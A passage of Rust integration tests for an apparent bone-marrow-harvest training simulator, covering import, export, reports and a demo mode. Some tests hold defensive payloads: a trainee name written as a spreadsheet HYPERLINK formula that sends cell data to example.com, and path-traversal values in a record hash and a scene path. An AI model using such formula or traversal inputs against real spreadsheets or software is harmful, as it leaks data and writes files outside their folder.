    let dir = std::env::temp_dir().join(format!("marrowsim-replay-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let renamed = std::fs::read_to_string("tests/golden/expert_psis_to_asis.ron")
        .unwrap()
        .replacen("PSIS harvest, average adult", "A scene nobody wrote", 1);
    let file = dir.join("a.ron");
    std::fs::write(&file, renamed).unwrap();
    let o = run(&["replay", file.to_str().unwrap()]);
    assert!(!o.status.success());
    let (_, err) = text(&o);
    assert!(
        err.contains("no scene in scenes/ is titled \"A scene nobody wrote\"")
            && err.contains("--scene"),
        "{err}"
    );
    let o = run(&["replay", "tests/golden/no_such_attempt.ron"]);
    assert!(!o.status.success());
    std::fs::remove_dir_all(&dir).ok();
}

/// An attempt recorded in an older format (version 1 here) is exported in the current one;
/// imported back, it is the same attempt, not a second one that would count twice in a
/// class's report. Imported elsewhere, it keeps the time it was marked.
#[test]
fn an_attempt_exported_in_a_newer_format_imports_as_the_same_attempt() {
    assert!(
        std::fs::read_to_string(GOLDEN_EXPERT)
            .unwrap()
            .contains("version: 1,")
    );
    let (root, data) = record_of_one_attempt("reexport", "Ada");
    let d = data.to_str().unwrap();
    let exported = root.join("exported");
    let o = run(&[
        "history",
        "--data",
        d,
        "--export-all",
        exported.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let file = std::fs::read_dir(&exported)
        .unwrap()
        .next()
        .unwrap()
        .unwrap()
        .path();
    let written = std::fs::read_to_string(&file).unwrap();
    assert!(
        !written.contains("version: 1,"),
        "written in the current format"
    );
    let (out, _) = text(&run(&["import", exported.to_str().unwrap(), "--data", d]));
    assert!(
        out.contains("1 file: 0 recorded, 1 already in the record"),
        "{out}"
    );
    // Dated by when it was marked, not by the file's time, which a copy changes.
    let recorded_at = |data: &str| {
        let (json, _) = text(&run(&["history", "--data", data, "--json"]));
        let row: serde_json::Value = serde_json::from_str(json.lines().next().unwrap()).unwrap();
        row["when"].as_u64().unwrap()
    };
    let when = recorded_at(d);
    assert!(
        written.contains(&format!("when: Some({when})")),
        "{written}"
    );
    let copied = root.join("copied.ron");
    std::fs::write(&copied, &written).unwrap();
    let elsewhere = root.join("elsewhere");
    let e = elsewhere.to_str().unwrap();
    let (out, _) = text(&run(&["import", copied.to_str().unwrap(), "--data", e]));
    assert!(out.contains("1 file: 1 recorded"), "{out}");
    assert_eq!(recorded_at(e), when);
    std::fs::remove_dir_all(&root).ok();
}

/// The golden expert attempt, in its first file format.
const GOLDEN_EXPERT: &str = "tests/golden/expert_psis_to_asis.ron";

/// An emptied scratch folder named for `tag`, and in it a record (`data`) holding the
/// golden expert attempt, imported under `trainee`.
fn record_of_one_attempt(tag: &str, trainee: &str) -> (std::path::PathBuf, std::path::PathBuf) {
    let root = std::env::temp_dir().join(format!("marrowsim-{tag}-{}", std::process::id()));
    std::fs::remove_dir_all(&root).ok();
    let data = root.join("data");
    let d = data.to_str().unwrap();
    let (out, err) = text(&run(&[
        "import",
        GOLDEN_EXPERT,
        "--data",
        d,
        "--trainee",
        trainee,
    ]));
    assert!(out.contains("1 file: 1 recorded"), "{out}{err}");
    (root, data)
}

/// A name typed at a station reaches the instructor's spreadsheet through the CSV. One that
/// starts like a formula (`=`, `+`, `-`, `@`) is written as text, so that opening the file
/// cannot run it (OWASP's advice on CSV injection).
#[test]
fn a_name_that_looks_like_a_formula_is_text_in_the_csv() {
    let name = "=HYPERLINK(\"http://example.com/?\"&A1,\"open\")";
    let (root, data) = record_of_one_attempt("csvinj", name);
    let d = data.to_str().unwrap();
    for args in [
        vec!["history", "--data", d, "--format", "csv"],
        vec!["report", "--data", d, "--format", "csv"],
    ] {
        let o = run(&args);
        let (csv, err) = text(&o);
        assert!(o.status.success(), "{args:?}: {err}");
        let row = csv.lines().find(|l| l.contains("HYPERLINK")).unwrap();
        assert!(
            row.contains("\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"open\"\")\""),
            "{args:?}: {row}"
        );
        assert!(!row.split(',').any(|f| f.starts_with('=')), "{row}");
    }
    std::fs::remove_dir_all(&root).ok();
}

/// `history --export-all` names its files from the record's hashes; a row whose hash is not
/// one (a hand-edited record: a character of two bytes, a path) is still written, inside the
/// folder, instead of panicking or writing elsewhere.
#[test]
fn exporting_a_record_with_a_damaged_hash_writes_inside_the_folder() {
    let (root, data) = record_of_one_attempt("badhash", "Ada");
    let d = data.to_str().unwrap();
    let db = rusqlite::Connection::open(data.join("marrowsim.db")).unwrap();
    db.execute(
        "UPDATE attempts SET attempt_hash = '0123456789a\u{e9}/../../x'",
        [],
    )
    .unwrap();
    drop(db);
    let exported = root.join("exported");
    let o = run(&[
        "history",
        "--data",
        d,
        "--export-all",
        exported.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    let files: Vec<_> = std::fs::read_dir(&exported)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(files, ["attempt-00001-0123456789a.ron"]);
    std::fs::remove_dir_all(&root).ok();
}

/// `import` grades collected files again, records each attempt once (a second import of the
/// same folder adds nothing), names what it refused and why, and takes the trainee's name
/// from the file; `history --export-all` writes files that import back to the same attempts.
#[test]
fn import_records_each_collected_attempt_once_and_names_refusals() {
    use marrowsim_core::records::attempt::{Attempt, Touch, VERSION};
    use marrowsim_core::records::history::Identity;
    let root = std::env::temp_dir().join(format!("marrowsim-import-{}", std::process::id()));
    std::fs::remove_dir_all(&root).ok();
    let (collected, data) = (root.join("collected"), root.join("data"));
    let expert =
        Attempt::load(std::path::Path::new("tests/golden/expert_psis_to_asis.ron")).unwrap();
    for (k, name) in ["Ada", "Ada", "Ben", "Ben"].iter().enumerate() {
        let mut a = expert.clone();
        a.version = VERSION;
        a.marks.push(Touch {
            t: k as f32,
            at: (0.0, 0.0, 0.0),
        });
        a.who = Some(Identity {
            trainee: Some(name.to_string()),
            station: Some("station-1".into()),
            course: None,
        });
        let dir = collected.join(name.to_lowercase());
        std::fs::create_dir_all(&dir).unwrap();
        a.save(&dir.join(format!("attempt-{k}.ron"))).unwrap();
    }
    std::fs::copy(
        "tests/golden/perpendicular_into_sacrum.ron",
        collected.join("under-the-skin.ron"),
    )
    .unwrap();
    std::fs::write(collected.join("torn.ron"), "(version: 6, scene: \"PSIS").unwrap();
    let (c, d) = (collected.to_str().unwrap(), data.to_str().unwrap());

    let o = run(&["import", c, "--data", d, "--course", "BMAC workshop"]);
    let (out, err) = text(&o);
    assert!(!o.status.success(), "refusals make the exit code 1");
    assert!(
        out.contains("6 files: 4 recorded, 0 already in the record, 2 refused"),
        "{out}{err}"
    );
    assert!(
        err.contains("under-the-skin.ron:") && err.contains("must start outside the body"),
        "{err}"
    );
    assert!(err.contains("torn.ron:1:"), "{err}");

    let (out, _) = text(&run(&["import", c, "--data", d]));
    assert!(out.contains("0 recorded, 4 already in the record"), "{out}");

    let (json, _) = text(&run(&["history", "--data", d, "--format", "json"]));
    let rows: Vec<serde_json::Value> = json
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rows.len(), 4);
    let names: Vec<&str> = rows
        .iter()
        .map(|r| r["trainee"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["Ada", "Ada", "Ben", "Ben"]);
    assert!(
        rows.iter()
            .all(|r| r["course"] == "BMAC workshop" && r["source"] == "collected")
    );

    let exported = root.join("exported");
    let o = run(&[
        "history",
        "--data",
        d,
        "--trainee",
        "Ben",
        "--export-all",
        exported.to_str().unwrap(),
    ]);
    assert!(o.status.success(), "{:?}", text(&o));
    assert_eq!(std::fs::read_dir(&exported).unwrap().count(), 2);
    let (out, _) = text(&run(&["import", exported.to_str().unwrap(), "--data", d]));
    assert!(
        out.contains("2 files: 0 recorded, 2 already in the record"),
        "{out}"
    );
    // One attempt, into a record of its own: its counts read in the singular.
    let one = std::fs::read_dir(&exported)
        .unwrap()
        .next()
        .unwrap()
        .unwrap();
    let lone = root.join("lone");
    let l = lone.to_str().unwrap();
    let (out, _) = text(&run(&["import", one.path().to_str().unwrap(), "--data", l]));
    assert!(
        out.contains("1 file: 1 recorded, 0 already in the record"),
        "{out}"
    );
    let html = root.join("lone.html");
    let (out, _) = text(&run(&[
        "report",
        "--data",
        l,
        "--out",
        html.to_str().unwrap(),
    ]));
    assert!(out.contains("1 attempt by 1 trainee written to"), "{out}");
    let page = std::fs::read_to_string(&html).unwrap();
    assert!(
        page.contains("<p class=\"meta\">1 attempt · 1 passed")
            && page.contains("<summary>All 1 attempt</summary>"),
        "the report counts one attempt in the singular"
    );
    std::fs::remove_dir_all(&root).ok();
}

/// `demo --list` prints the programme; a scene's authored expert (`expert:`, version 6) is
/// the attempt the demonstration plays first, and a scene naming one wrongly is refused.
#[test]
fn demo_lists_its_programme_and_plays_the_scenes_expert() {
    let dir = std::env::temp_dir().join(format!("marrowsim-demo-{}", std::process::id()));
    std::fs::remove_dir_all(&dir).ok();
    std::fs::create_dir_all(dir.join("experts")).unwrap();
    let (ok, out) = {
        let o = run(&["demo", "--list", "scenes/psis_standard.ron"]);
        (o.status.success(), text(&o).0)
    };
    assert!(ok, "{out}");
    for line in [
        "the expert's harvest",
        "skin",
        "marrow: the loss of resistance",
        "Straight in, perpendicular to the back (an error)",
        "! straight in: the SI joint at 32 mm (Hirahara",
        "the score: 100 of 100, pass",
    ] {
        assert!(out.contains(line), "{line} in:\n{out}");
    }
    let standard = std::fs::read_to_string("scenes/psis_standard.ron").unwrap();
    let authored = standard.replacen("version: 1,", "version: 6,", 1).replacen(
        "title:",
        "expert: Some(\"experts/ada.ron\"),\n    title:",
        1,
    );
    let scene = dir.join("scene.ron");
    std::fs::write(&scene, &authored).unwrap();
    std::fs::copy(
        "tests/golden/expert_psis_to_asis.ron",
        dir.join("experts/ada.ron"),
    )
    .unwrap();
    let o = run(&["demo", "--list", scene.to_str().unwrap()]);
    let (out, err) = text(&o);
    assert!(o.status.success(), "{out}{err}");
    let expert = |out: &str| -> Vec<String> {
        out.lines()
            .take_while(|l| !l.contains("(an error)"))
            .map(String::from)
            .collect()
    };
    let (default, _) = text(&run(&["demo", "--list", "scenes/psis_standard.ron"]));
    assert_ne!(
        expert(&out),
        expert(&default),
        "the authored attempt, not feasibility's"
    );
    // The golden's own timeline: placed for 0.3 s, then 2 mm/s through 14 mm of fat.
    assert!(
        out.contains("      0.3 s  skin") && out.contains("fat, 14 mm"),
        "{out}"
    );

    std::fs::write(&scene, authored.replace("experts/ada.ron", "../ada.ron")).unwrap();
    let (_, err) = text(&run(&["validate", scene.to_str().unwrap()]));
    assert!(err.contains("without `..`"), "{err}");
    std::fs::write(&scene, authored.replacen("version: 6,", "version: 5,", 1)).unwrap();
    let (_, err) = text(&run(&["validate", scene.to_str().unwrap()]));
    assert!(err.contains("needs `version: 6`"), "{err}");
    std::fs::copy(
        "tests/golden/perpendicular_into_sacrum.ron",
        dir.join("experts/ada.ron"),
    )
    .unwrap();
    std::fs::write(&scene, &authored).unwrap();
    let (_, err) = text(&run(&["demo", "--list", scene.to_str().unwrap()]));
    assert!(
        err.contains("the expert's attempt") && err.contains("outside the body"),
        "{err}"
    );
    std::fs::remove_dir_all(&dir).ok();
}
